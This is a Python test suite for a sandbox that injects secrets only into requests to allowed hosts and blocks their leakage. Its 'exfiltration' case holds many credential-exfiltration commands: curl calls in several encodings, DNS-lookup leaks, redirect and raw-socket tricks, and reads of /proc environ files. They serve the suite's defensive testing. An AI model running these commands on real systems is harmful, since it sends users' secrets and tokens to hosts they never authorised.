"""Secrets that the box uses and never holds: the placeholder becomes the value in one place of requests to the named
hosts, and nowhere else; what comes back is masked; the value is in no place that can be read afterwards.
usage: see boxed.py"""
import base64
import secrets as random
import signal
import threading

from boxed import *

VALUE = "s3cr3t-" + random.token_hex(12) + "/+=&%"  # with characters that encodings change
FORMS = {VALUE, base64.b64encode(VALUE.encode()).decode().rstrip("="), VALUE.encode().hex()}
ALLOW = [{"host": "api.example.com", "ports": ["443", "80"]}, {"host": "www.example.com", "intercept": True}, {"host": "www.example.com", "port": 80},
         {"host": "echo.example.com", "port": 7, "protocol": "tcp"}, {"host": "other.example.com", "port": 443}]
HEADER = {"env": "API_KEY", "value_from": "env:REAL_KEY", "hosts": ["api.example.com"], "header": "authorization"}


def model(*secrets, allow=ALLOW, **more):
    return network(allow, None, secrets=list(secrets) or [HEADER], **more)


def boxed(cases, *secrets, **more):
    return inside(model(*secrets), [{"name": n, "argv": c if isinstance(c, list) else ["sh", "-c", c]} for n, c in cases.items()],
                  more={"REAL_KEY": VALUE}, **more)


def arrived():
    return [e for e in world.seen("request") if VALUE in json.dumps(e, ensure_ascii=False)]


def nowhere(what, r):
    """Not in anything that the run left."""
    held = {"result": r.raw.decode(errors="replace"), "standard error": r.said}
    for top, _, files in os.walk(state):
        for f in files:
            with open(os.path.join(top, f), "rb") as opened:
                held[os.path.join(top, f)] = opened.read().decode("latin-1")
    for name, text in held.items():
        for form in FORMS:
            if form in text:
                return check(f"{what}: the value is nowhere", False, f"{name}: {text[max(0, text.find(form) - 200):][:400]}")
    return check(f"{what}: the value is nowhere: not in the result, the log or the state", True)


def unreadable(pid):
    """As the caller: the memory file of a process that is not dumpable."""
    with open(f"/proc/{pid}/status") as f:
        uid = next(line.split()[1] for line in f if line.startswith("Uid:"))
    prefix = ["setpriv", "--reuid", uid, "--clear-groups"] if os.geteuid() == 0 else []
    p = subprocess.run([*prefix, "head", "-c1", f"/proc/{pid}/environ"], capture_output=True)
    return p.returncode != 0


@case
def in_a_header():
    auth = 'curl -sS -H "Authorization: Bearer $API_KEY"'
    world.clear()
    r = boxed({
        "variable": "echo $API_KEY",
        "use": f"{auth} https://api.example.com/echo-nothing",
        "use, HTTP/1": f"{auth} --http1.1 https://api.example.com/echo-nothing",
        "use, requests": [PYTHON, "-c", "import os,requests; print(requests.get('https://api.example.com/x', headers={'Authorization': 'Bearer '+os.environ['API_KEY']}).text)"],
        "use, node": ["node", "-e", "fetch('https://api.example.com/x', {headers: {Authorization: 'Bearer ' + process.env.API_KEY}}).then(r => r.text()).then(console.log)"],
        "echoed": f"{auth} https://api.example.com/headers",
        "echoed, HTTP/1": f"{auth} --http1.1 https://api.example.com/headers",
        "echoed in pieces": f"{auth} --http1.1 https://api.example.com/split-secret",
        "echoed in a header": f"{auth} -i https://api.example.com/header-back",
        "echoed, compressed": f"{auth} --compressed https://api.example.com/headers-gzip",
        "echoed, range": f"{auth} -r 50-90 https://api.example.com/headers",
    })
    got = r.cases["variable"]["out"].strip()
    check("the box has a placeholder", got and VALUE not in got, r.cases["variable"])
    seen = [e for e in world.seen("request") if dict((k.lower(), v) for k, v in e["headers"]).get("authorization") == "Bearer " + VALUE]
    check("the server gets the value", {e["path"] for e in seen} >= {"/echo-nothing", "/x", "/headers"}, world.seen("request"))
    check("over both versions", {e["version"] for e in seen} >= {"HTTP/1.1", "HTTP/2"}, seen)
    for name in r.cases:
        if name.startswith("echoed"):
            check(f"{name}: the box does not see it", not any(f in r.cases[name]["out"] for f in FORMS), r.cases[name])
            check(f"{name}: and the answer came", r.cases[name]["status"] == 0, r.cases[name])
    check("in its place stars come back", "Bearer ****" in r.cases["echoed"]["out"], r.cases["echoed"])
    nowhere("in a header", r)
    check("the event says that a secret was used, not which value", r.find(blocked=False, host="api.example.com", method="GET"), r.text[-1500:])


@case
def in_a_query_and_as_basic():
    query = {"env": "API_KEY", "value_from": "env:REAL_KEY", "hosts": ["api.example.com"], "query": "key"}
    basic = {"env": "PASSWORD", "value_from": "env:REAL_KEY", "hosts": ["api.example.com"], "basic": True}
    world.clear()
    r = boxed({"query": "curl -sS -G --data-urlencode key=$API_KEY -d other=1 https://api.example.com/q",
               "basic": "curl -sS -u user:$PASSWORD https://api.example.com/b",
               "wrong field": "curl -sS -G --data-urlencode other=$API_KEY https://api.example.com/wrong",
               "wrong place": "curl -sS -H \"Authorization: Bearer $PASSWORD\" https://api.example.com/wrong"}, query, basic)
    from urllib.parse import parse_qs, urlsplit
    seen = world.seen("request")
    check("in a query field, encoded as it has to be", any(parse_qs(urlsplit(e["path"]).query).get("key") == [VALUE] for e in seen), seen)
    want = "Basic " + base64.b64encode(f"user:{VALUE}".encode()).decode()
    check("as a password", any(["Authorization", want] in e["headers"] or ["authorization", want] in e["headers"] for e in seen), seen)
    same("nothing arrived from the wrong places", [e for e in seen if "wrong" in e["path"]], [])
    check("the query's value is masked in the log", VALUE not in r.text and "s3cr3t" not in r.text, "")
    nowhere("query and basic", r)


@case
def exfiltration():
    """The placeholder to any other host, in any other place, in any encoding: refused, and told as what it is."""
    enc = {"": "$API_KEY", "base64": "$(printf %s $API_KEY | base64 -w0)", "hex": "$(printf %s $API_KEY | od -An -tx1 | tr -d ' \\n')",
           "percent": "$(printf %s $API_KEY | od -An -tx1 | tr -d '\\n' | tr ' ' %)", "reversed": "$(printf %s $API_KEY | rev)"}
    cases = {}
    for name, text in enc.items():
        cases[f"another host, header, {name}"] = f'curl -sS -H "X-A: {text}" https://www.example.com/leak-header'
        cases[f"another host, query, {name}"] = f'curl -sS "https://www.example.com/leak?x={text}"'
        cases[f"another host, body, {name}"] = f'curl -sS -d "x={text}" https://www.example.com/leak-body'
        cases[f"same host, body, {name}"] = f'curl -sS -d "x={text}" https://api.example.com/leak-own-body'
    cases |= {
        "another host, same header": 'curl -sS -H "Authorization: Bearer $API_KEY" https://www.example.com/leak-auth',
        "another host, same header, HTTP/1": 'curl -sS --http1.1 -H "Authorization: Bearer $API_KEY" https://www.example.com/leak-auth',
        "another host, path": 'curl -sS https://www.example.com/leak/$API_KEY',
        "another host, header's name": 'curl -sS -H "$API_KEY: x" https://www.example.com/leak-name',
        "another host, user": 'curl -sS -u "$API_KEY:x" https://www.example.com/leak-user',
        "another host, cookie": 'curl -sS -b "c=$API_KEY" https://www.example.com/leak-cookie',
        "another host, multipart": 'curl -sS -F "f=$API_KEY" https://www.example.com/leak-form',
        "another host, chunked": 'printf %s "$API_KEY" | curl -sS -T - https://www.example.com/leak-chunked',
        "another host, in clear": 'curl -sS -H "X: $API_KEY" http://www.example.com/leak-clear',
        "same host, in clear": 'curl -sS -H "Authorization: Bearer $API_KEY" http://api.example.com/leak-clear-own',
        "same host, another header": 'curl -sS -H "X-Other: $API_KEY" https://api.example.com/leak-other-header',
        "same host, path": 'curl -sS https://api.example.com/leak/$API_KEY',
        "redirect to another host": 'curl -sS -L --location-trusted -H "Authorization: Bearer $API_KEY" "https://api.example.com/redirect?to=https://www.example.com/leak-redirect"',
        "Host of another": 'curl -sS -H "Authorization: Bearer $API_KEY" -H "Host: www.example.com" https://api.example.com/leak-host',
        "a lookup": 'getent hosts $API_KEY.example.net',
        "a lookup below the allowed": 'getent hosts $API_KEY.api.example.com',
        "the proxy's URL": 'curl -sS -x http://127.0.0.1:3128 http://www.example.com/leak/$API_KEY',
        "the proxy's name": 'curl -sS -x http://127.0.0.1:3128 https://$API_KEY.example.net/',
        "trailer": [PYTHON, "-c", "import os,socket,ssl; c=ssl.create_default_context(); s=c.wrap_socket(socket.create_connection(('www.example.com',443)),server_hostname='www.example.com');"
                    "s.sendall(b'POST /leak-trailer HTTP/1.1\\r\\nHost: www.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\nx\\r\\n0\\r\\nX-T: '+os.environ['API_KEY'].encode()+b'\\r\\n\\r\\n'); print(s.recv(999))"],
        "split over two writes": [PYTHON, "-c", "import os,socket,ssl,time; k=os.environ['API_KEY'].encode(); c=ssl.create_default_context(); s=c.wrap_socket(socket.create_connection(('www.example.com',443)),server_hostname='www.example.com');"
                                  "s.sendall(b'POST /leak-split HTTP/1.1\\r\\nHost: www.example.com\\r\\nContent-Length: %d\\r\\n\\r\\n'%len(k)+k[:5]); time.sleep(.3); s.sendall(k[5:]); print(s.recv(999))"],
    }
    world.clear()
    r = boxed(cases)
    placeholder = boxed({"v": "echo $API_KEY"}).cases["v"]["out"].strip()
    seen = world.seen("request")
    same("the value arrived nowhere", [e for e in arrived() if "leak" in e["path"] and not e["path"].startswith("/redirect")], [])
    kinds = {"": placeholder, "base64": base64.b64encode(placeholder.encode()).decode(), "hex": placeholder.encode().hex()}
    leaked = [e["path"] for e in seen if "leak" in e["path"] and (e["body"] or "leak-body" not in e["path"])]
    # Percent signs in a body are data like others, not an encoding.
    refused = [n for n in cases if not n.endswith("body, percent") and n.startswith(("another host", "same host", "split", "trailer", "Host of")) and "reversed" not in n]
    for n in refused:
        check(f"exfiltration: {n}: refused", r.cases[n]["status"] != 0 or "Pale" in r.cases[n]["out"] or "hello" not in r.cases[n]["out"], r.cases[n])
    told = [e for e in r.events if "exfiltration" in json.dumps(e)]
    check("told as exfiltration in the log", told, r.text[-3000:])
    check("and in the result", "exfiltration" in json.dumps(r.blocked), r.blocked)
    check("the program is told why", any("secret" in r.cases[n]["out"].lower() for n in refused), {n: r.cases[n]["out"][:80] for n in refused})
    check("the reversed one goes through: it is no secret, only a placeholder", "hello" in r.cases["another host, header, reversed"]["out"],
          r.cases["another host, header, reversed"])
    same("no lookup with it left", [e for e in world.seen("lookup") if placeholder.lower()[:12] in e["name"].lower()], [])
    print("# arrived:", sorted(set(leaked)))
    # Where nothing is a secret the same requests arrive.
    world.clear()
    r = inside(network(ALLOW, None), [{"name": "x", "argv": ["sh", "-c", f'curl -sS -H "X-A: {placeholder}" https://www.example.com/leak-header']}])
    check("where there is no secret, the same request arrives", world.seen("request", path="/leak-header"), r.cases)


@case
def sources():
    at = os.path.join(place, "value")
    with open(at, "w") as f:
        f.write(VALUE + "\n")
    os.chmod(at, 0o600)
    if user:
        shutil.chown(at, user, user)
    use = 'curl -sS -H "Authorization: $API_KEY" https://api.example.com/from'
    for source in ("file:" + at, "command:cat " + at):
        world.clear()
        r = boxed({"use": use}, {**HEADER, "value_from": source})
        check(f"from {source.split(':')[0]}", arrived(), r)
        nowhere(source.split(":")[0], r)
    if not user:
        fd = os.open(at, os.O_RDONLY)
        world.clear()
        r = boxed({"use": use}, {**HEADER, "value_from": f"fd:{fd}"}, pass_fds=[fd])
        check("from a descriptor", arrived(), r)
        os.close(fd)
    world.clear()
    r = boxed({"use": 'curl -sS -H "Authorization: $(cat /run/key)" https://api.example.com/from', "mode": "stat -c %a /run/key; echo x > /run/key"},
              {**{k: v for k, v in HEADER.items() if k != "env"}, "file": "/run/key"})
    check("into a file of the box", arrived(), r)
    for source, why in (("env:NOT_THERE", "NOT_THERE"), ("file:/nonexistent/value", "/nonexistent"), ("command:exit 3", "exit")):
        r = Run(model({**HEADER, "value_from": source}), "true")
        check(f"no value from {source}: nothing runs, and it says so", r.status == 125 and why in r.said + r.raw.decode(), r)


@case
def not_to_be_read():
    """While the box runs: command lines, environments, memory files and core limits of every process of it."""
    r = None
    path = policy(model())
    p = subprocess.Popen([*world.prefix, pale, "run", "-p", path, "--", "sh", "-c", "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; ls -l /proc/*/fd; echo ready; sleep 20"],
                         env={**env, "REAL_KEY": VALUE}, cwd=place, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    text = b""
    while b"ready" not in text and (part := p.stdout.readline()):
        text += part
    check("nothing inside shows it", VALUE.encode() not in text and b"ready" in text, text[-500:])
    pids = brokers(p.pid)
    check("the broker is there", pids, "")
    found = []
    for pid in pids:
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    if VALUE.encode() in f.read():
                        found.append((pid, name))
            except OSError:
                pass
    same("not in the broker's command line or environment", found, [])
    with open(f"/proc/{p.pid}/cmdline", "rb") as f:
        check("nor in the supervisor's command line", VALUE.encode() not in f.read())
    for pid in pids:
        with open(f"/proc/{pid}/status") as f:
            status = dict(line.rstrip("\n").split(":\t", 1) for line in f if ":\t" in line)
        check("the broker has no capability", all(int(status[k], 16) == 0 for k in ("CapInh", "CapPrm", "CapEff", "CapAmb")), status)
        check("no new privileges, a filter", status["NoNewPrivs"] == "1" and status["Seccomp"] == "2", status)
        if root and not user:
            check("an id of its own, no groups", "0" not in status["Uid"].split() and "0" not in status["Gid"].split() and not status["Groups"].strip(), status)
            with open(f"/proc/{pid}/limits") as f:
                limits = f.read()
            check("no core (1: a handler of cores is not fed either)", any(line.split()[4:6] == ["1", "1"] for line in limits.splitlines() if line.startswith("Max core")), limits)
        check("its memory is not readable by its own user", unreadable(pid), "")
    p.send_signal(signal.SIGTERM)
    p.wait(10)
    p.stdout.close()
    p.stderr.close()
    p = world.run([pale, "explain", "-p", path], env={**env, "REAL_KEY": VALUE}, cwd=place)
    check("the plan has not the value", VALUE.encode() not in p.stdout + p.stderr and p.returncode == 0, p.stderr)
    check("and says where it comes from and goes to", b"REAL_KEY" in p.stdout or b"API_KEY" in p.stdout, p.stdout[-1500:])


nothing_left()
done()
